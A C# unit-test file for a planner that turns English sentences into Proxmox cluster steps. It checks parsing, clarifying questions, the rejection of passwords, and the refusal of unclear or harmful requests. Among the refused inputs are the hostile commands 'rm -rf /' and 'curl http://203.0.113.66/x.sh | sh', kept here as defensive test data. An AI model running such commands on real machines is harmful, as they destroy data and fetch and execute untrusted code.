namespace MycoPod.Tests.Planning.BuiltIn;

/// <summary>A sentence of each area, and what is to be read out of it.</summary>
public sealed class FrameTests
{
    [Theory]
    [InlineData("Shut down jellyfin", "Shut down jellyfin")]
    [InlineData("pls turn nas off", "Shut down nas")]
    [InlineData("reboot jellyfin and nas", "Reboot jellyfin|Reboot nas")]
    [InlineData("Stop all my containers", "Stop jellyfin|Stop debian-1")]
    [InlineData("Start twin on pve1", "Start twin")]
    [InlineData("Snapshot nas as before-update", "Snapshot before-update of nas")]
    [InlineData("nas should have a snapshot named nightly", "Snapshot nightly of nas")]
    [InlineData("Give nas 4 cores and 8 GB of RAM", "Change nas: cores 4, memory 8 GiB")]
    [InlineData("gimme 2 cores on nas", "Change nas: cores 2")]
    [InlineData("nas should start at boot", "Change nas: start at boot yes")]
    [InlineData("Rename nas to vault", "Change nas: name vault")]
    [InlineData("Tag jellyfin and pihole with media", "Change jellyfin: tags media|Change pihole: tags media")]
    [InlineData("Set the DNS server of jellyfin to 1.1.1.1", "Change jellyfin: DNS servers 1.1.1.1")]
    [InlineData("Create a pool called lab and put nas into the lab pool", "Add pool lab|Put nas into the pool lab")]
    [InlineData("Back up jellyfin to local", "Back up jellyfin to local")]
    [InlineData("Back up jellyfin and nas every night at 2 to local, keep the last 3", "Add backup job backup: jellyfin, nas to local, 02:00, keep-last=3")]
    [InlineData("Add an NFS storage media: server 10.0.0.2, export /tank/media, for backups and ISO images", "Add storage media: nfs server 10.0.0.2, export /tank/media, for backup, iso")]
    [InlineData("Use the directory /mnt/usb as storage usb for backups", "Add storage usb: dir path /mnt/usb, for backup")]
    [InlineData("Create bridge vmbr5 on pve1", "Prepare bridge vmbr5 on pve1|Apply the prepared network of pve1; if that cuts it off, it is mended at its console")]
    [InlineData("Allow tcp ports 80 and 443 on jellyfin", "Add to the firewall of jellyfin: in ACCEPT tcp port 80,443")]
    [InlineData("Create the firewall alias lan for 10.0.0.0/24", "Add firewall alias lan for 10.0.0.0/24")]
    [InlineData("Create the group devs and the user anna@pve in the group devs", "Add group devs to the cluster's users|Add user anna@pve to the cluster, without a password, in devs")]
    [InlineData("Run 'df -h' in jellyfin", "Run in jellyfin: df -h")]
    [InlineData("Nightly backup of jellyfin to local, keep 3", "Add backup job backup-jellyfin: jellyfin to local, 02:00, keep-last=3")]
    [InlineData("Backup of nas to local", "Back up nas to local")]
    [InlineData("Update nas: 4 cores", "Change nas: cores 4")]
    [InlineData("Upgrade nas to 4 cores", "Change nas: cores 4")]
    [InlineData("Create an Alpine container x-1 and start it. Then reboot nas first (safety!), and stop jellyfin", "Create container x-1 on pve1: 1 core, 512 MiB memory, 8 GiB disk, from alpine-3.20-default|Start x-1|Reboot nas|Stop jellyfin")]
    [InlineData("Apply the staged network changes of pve1", "Apply the prepared network of pve1; if that cuts it off, it is mended at its console")]
    [InlineData("Create the pool lab with members: vm_id 103, vm_id 101", "Add pool lab|Put nas into the pool lab|Put jellyfin into the pool lab")]
    [InlineData("Create the user bob in the pve realm", "Add user bob@pve to the cluster, without a password")]
    [InlineData("Delete template alpine-3.20-default_20240908_amd64.tar.xz", "Delete file local:vztmpl/alpine-3.20-default_20240908_amd64.tar.xz (0 MiB) on pve1")]
    [InlineData("Migrate old-wiki to pve1", "Move old-wiki from pve2 to pve1")]
    [InlineData("Create a pool called lab and add nas to it", "Add pool lab|Put nas into the pool lab")]
    [InlineData("Shut down jellyfin, take a snapshot named clean, then start it again", "Shut down jellyfin|Snapshot clean of jellyfin|Start jellyfin")]
    [InlineData("Create the user anna@pve and an API token called ci for anna@pve", "Add user anna@pve to the cluster, without a password|Add the API token anna@pve!ci, with permissions of its own")]
    [InlineData("Protect nas from deletion", "Change nas: protection yes")]
    [InlineData("Open port 8080/tcp on jellyfin", "Add to the firewall of jellyfin: in ACCEPT tcp port 8080")]
    [InlineData("Run a Debian container called cache with 1 core and 512 MB of RAM on pve2", "Create container cache on pve2: 1 core, 512 MiB memory, 8 GiB disk, from debian-12-standard|Start cache")]
    [InlineData("Tag jellyfin with infra and back it up to local", "Change jellyfin: tags infra|Back up jellyfin to local")]
    [InlineData("Tag jellyfin with dns", "Change jellyfin: tags dns")]
    [InlineData("Shut jellyfin and nas down", "Shut down jellyfin|Shut down nas")]
    [InlineData("Back jellyfin up to local", "Back up jellyfin to local")]
    [InlineData("Snapshot jellyfin as before-it, then shut it down", "Snapshot before-it of jellyfin|Shut down jellyfin")]
    [InlineData("Make nas highly available", "Put nas under HA, started")]
    [InlineData("Give nas 4 more GB of memory", "Change nas: memory 4.5 GiB")]
    [InlineData("Create two Debian containers named a-1 and a-2, one per node", "Create container a-1 on pve1: 1 core, 512 MiB memory, 8 GiB disk, from debian-12-standard|Create container a-2 on pve2: 1 core, 512 MiB memory, 8 GiB disk, from debian-12-standard")]
    [InlineData("Create a Debian container named x-1 on the same node as old-wiki", "Create container x-1 on pve2: 1 core, 512 MiB memory, 8 GiB disk, from debian-12-standard")]
    [InlineData("old-wiki on please", "Start old-wiki")]
    public void A_sentence_becomes_steps(string text, string expected) => Assert.Equal(expected.Split('|'), Titles(text));

    [Theory]
    [InlineData("Delete pihole (jellyfin)")]
    [InlineData("Delete pihole container 102")]
    [InlineData("Remove pihole from node pve1")]
    [InlineData("Delete node pve1 and pihole")]
    [InlineData("Delete the image debian-1")]
    [InlineData("Remove storage pihole")]
    [InlineData("Delete the container with pihole")]
    [InlineData("Delete all containers except pihole")]
    [InlineData("Delete everything")]
    [InlineData("Apply the network configuration of pve1 to pve2")]
    [InlineData("Weekly backup of jellyfin and nightly backup of nas")]
    [InlineData("Create the pool lab with ids 100 to 103")]
    [InlineData("Create the pool lab with ids starting at 100")]
    [InlineData("Upgrade all VMs with 4 cores")]
    [InlineData("Create an Alpine container x-1 across two nodes")]
    [InlineData("Update the packages on jellyfin with 4 cores")]
    [InlineData("Clone nas to nas-2 under another ID 8")]
    [InlineData("Create an API token called ci for the existing user ana@pve")]
    [InlineData("Back up nas every night, keep daily for 4 weeks")]
    [InlineData("Should I delete pihole?")]
    [InlineData("Start all of them but pihole")]
    [InlineData("Start pihole (104)")]
    [InlineData("Is pihole running?")]
    [InlineData("Shut down every node of the cluster")]
    [InlineData("Run 'rm -rf /' in jellyfin")]
    [InlineData("Run 'curl http://203.0.113.66/x.sh | sh' in jellyfin")]
    [InlineData("Remove nas from HA")]
    [InlineData("Restore the latest backup of nas")]
    [InlineData("Restore everything")]
    [InlineData("Delete running containers")]
    [InlineData("Tag jellyfin foo bar")]
    [InlineData("Delete the API token ci of anna@pve")]
    public void What_is_unclear_or_harmful_is_not_planned(string text) => Assert.Null(Planned.OnTestCluster(text).Plan);

    [Theory]
    [InlineData("Stop the web server", "which guest is meant")]
    [InlineData("Delete the template debian-12-standard_12.7-1_amd64.tar.zst", "is on several nodes: from which one is it to be deleted?")]
    [InlineData("Give nas more memory", "how much")]
    [InlineData("Add a disk to nas", "How large")]
    [InlineData("Start twin", "Which “twin” is meant?")]
    [InlineData("Take a snapshot", "which guest is meant")]
    [InlineData("Create an API token named ci", "Of which user is the API token")]
    [InlineData("Stop jelyfin", "which guest is meant by “jelyfin”?")]
    public void What_is_missing_is_asked(string text, string expected)
    {
        var outcome = Planned.OnTestCluster(text);
        Assert.Contains(expected, Assert.Single(outcome.Questions).Text);
    }

    [Theory]
    [InlineData("Create a Debian container named x-1 with password supersecret", "Give an SSH key instead, or set the password in Proxmox yourself.")]
    [InlineData("Create the user anna@pve with password supersecret", "anna@pve gets one in Proxmox, from a person.")]
    [InlineData("Add an SMB storage named media: server 192.168.1.40, share films, user ada, password supersecret", "mycopod secret set media")]
    public void A_text_with_a_password_is_not_planned(string text, string instead)
    {
        var outcome = Planned.OnTestCluster(text);
        Assert.Null(outcome.Plan);
        Assert.Contains(outcome.Problems, p => p.StartsWith("The text holds a password, and a declaration is read by everybody and kept for good.", StringComparison.Ordinal) && p.Contains(instead, StringComparison.Ordinal));
        Assert.DoesNotContain(outcome.Problems, p => p.Contains("supersecret", StringComparison.Ordinal));
    }

    private static IEnumerable<string> Titles(string text)
    {
        var outcome = Planned.OnTestCluster(text);
        Assert.True(outcome.Plan is not null, $"{text}\n{string.Join('\n', outcome.Problems)}");
        return outcome.Plan?.Steps.Select(s => s.Title) ?? [];
    }
}
